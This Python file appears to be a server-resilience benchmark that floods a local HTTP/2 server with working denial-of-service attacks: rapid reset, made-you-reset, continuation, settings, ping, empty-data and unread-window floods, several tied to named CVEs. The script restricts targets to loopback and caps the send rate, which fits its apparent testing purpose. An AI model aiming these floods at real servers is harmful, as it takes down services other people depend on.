"""Floods a server on this machine with HTTP/2 that costs it work and its sender none.

Each connection sends the frames of one attack at a bounded rate, and is opened anew when the server
ends it, which is what the server should do. How often it did is told at the end. For `plimsoll-bench
siege`, which measures what other clients feel of it meanwhile.
"""

import argparse
import asyncio
import ipaddress
import itertools
import logging
import math
import signal
import socket
import struct

import h2.config
import h2.connection
from hyperframe.frame import ContinuationFrame, DataFrame, HeadersFrame, PingFrame, RstStreamFrame
from hyperframe.frame import SettingsFrame, WindowUpdateFrame

HEAD = [(":method", "GET"), (":scheme", "http"), (":path", "/"), (":authority", "shop.test")]
# A page of 200 KiB at the shop of `plimsoll-bench siege`.
LARGE = [(name, "/large" if name == ":path" else value) for name, value in HEAD]
# Streams that a server allows at once by custom, and the widest window (RFC 9113, sections 6.5.2 and 6.9.1).
STREAMS, WINDOW_MAX = 100, 2**31 - 1
# A frame's length, kind, flags and stream (RFC 9113, section 4.1).
FRAME_HEADER = struct.Struct(">HBBBL")


def request(connection, stream, ends=True, head=HEAD):
    frame = HeadersFrame(stream, data=connection.encoder.encode(head))
    frame.flags.add("END_HEADERS")
    if ends:
        frame.flags.add("END_STREAM")
    return frame.serialize()


def rapid_reset(connection):
    """CVE-2023-44487: ask, and take it back at once."""
    for stream in itertools.count(1, 2):
        yield request(connection, stream) + RstStreamFrame(stream, error_code=8).serialize()


def made_you_reset(connection):
    """CVE-2025-8671: ask, and make the server reset the stream by a window update of nothing."""
    for stream in itertools.count(1, 2):
        nothing = FRAME_HEADER.pack(0, 4, WindowUpdateFrame.type, 0, stream) + bytes(4)
        yield request(connection, stream) + nothing


def continuation(connection):
    """CVE-2024-27316 and its like: a head without an end."""
    yield HeadersFrame(1, data=connection.encoder.encode(HEAD)).serialize()
    field = connection.encoder.encode([("x-flood", "y" * 1_000)])
    while True:
        yield ContinuationFrame(1, data=field).serialize()


def settings(_):
    while True:
        yield SettingsFrame(0, settings={3: 100}).serialize()


def ping(_):
    while True:
        yield PingFrame(0, opaque_data=b"floodpls").serialize()


def empty_data(connection):
    """CVE-2019-9518: a body that goes on and has nothing in it."""
    yield request(connection, 1, ends=False)
    while True:
        yield DataFrame(1, data=b"").serialize()


def unread(connection):
    """CVE-2019-9517: windows as wide as can be, large answers, and nobody who reads them."""
    yield SettingsFrame(0, settings={SettingsFrame.INITIAL_WINDOW_SIZE: WINDOW_MAX}).serialize()
    yield WindowUpdateFrame(0, window_increment=WINDOW_MAX - 65_535).serialize()
    for number in range(STREAMS):
        yield request(connection, 2 * number + 1, head=LARGE)
    # Who sends nothing does not learn that the connection was ended; now and then is within any allowance.
    for turn in itertools.count(1):
        yield PingFrame(0, opaque_data=b"floodpls").serialize() if turn % 1_000 == 0 else b""


ATTACKS = {
    "rapid-reset": rapid_reset,
    "made-you-reset": made_you_reset,
    "continuation": continuation,
    "settings": settings,
    "ping": ping,
    "empty-data": empty_data,
    "unread": unread,
}


async def read_all(reader):
    while await reader.read(65_536):
        pass


async def attack_once(frames, host, port, per_second):
    """One connection, until it is ended; whether it was."""
    reads = frames is not unread
    # What nobody reads stays with the server, and not in buffers of ours.
    peer = socket.socket()
    if not reads:
        peer.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4_096)
    peer.setblocking(False)
    try:
        await asyncio.get_running_loop().sock_connect(peer, (host, port))
    except BaseException:
        peer.close()
        raise
    reader, writer = await asyncio.open_connection(sock=peer, limit=65_536 if reads else 1)
    connection = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True))
    connection.initiate_connection()
    writer.write(connection.data_to_send())
    reading = asyncio.ensure_future(read_all(reader) if reads else asyncio.sleep(math.inf))
    try:
        # Ten bursts a second: a sleep for each frame would be the attacker's flood.
        burst = max(1, per_second // 10)
        for number, frame in enumerate(frames(connection)):
            if reading.done() or writer.is_closing():
                return True
            writer.write(frame)
            if number % burst == 0:
                await writer.drain()
                await asyncio.sleep(0.1)
    except OSError:
        return True
    finally:
        reading.cancel()
        writer.close()


async def attack(name, arguments, ended):
    host, port = arguments.target.rsplit(":", 1)
    per_second = max(1, arguments.rate // arguments.connections)
    while True:
        try:
            ended[name] += bool(await attack_once(ATTACKS[name], host, int(port), per_second))
        except OSError:
            # Turned away at the door.
            ended[name] += 1
        await asyncio.sleep(0.05)


def is_here(target):
    return ipaddress.ip_address(target.rsplit(":", 1)[0].strip("[]")).is_loopback


async def main():
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("attack", choices=[*ATTACKS, "all"])
    parser.add_argument("target", help="host:port, on this machine")
    parser.add_argument("--connections", type=int, default=12, help="at once")
    parser.add_argument("--rate", type=int, default=3_000, help="rounds per second, over all connections")
    parser.add_argument("--seconds", type=float, default=60)
    arguments = parser.parse_args()
    if not is_here(arguments.target):
        parser.error(f"{arguments.target} is not on this machine")
    names = list(ATTACKS) if arguments.attack == "all" else [arguments.attack]
    ended = dict.fromkeys(names, 0)
    tasks = [
        asyncio.ensure_future(attack(names[number % len(names)], arguments, ended))
        for number in range(arguments.connections)
    ]
    # It warns of each frame that is written to a connection that was ended meanwhile.
    logging.getLogger("asyncio").setLevel(logging.CRITICAL)
    over = asyncio.Event()
    asyncio.get_running_loop().add_signal_handler(signal.SIGTERM, over.set)
    try:
        await asyncio.wait_for(over.wait(), arguments.seconds)
    except TimeoutError:
        pass
    for task in tasks:
        task.cancel()
    print("connections ended by the server:", ended)


asyncio.run(main())
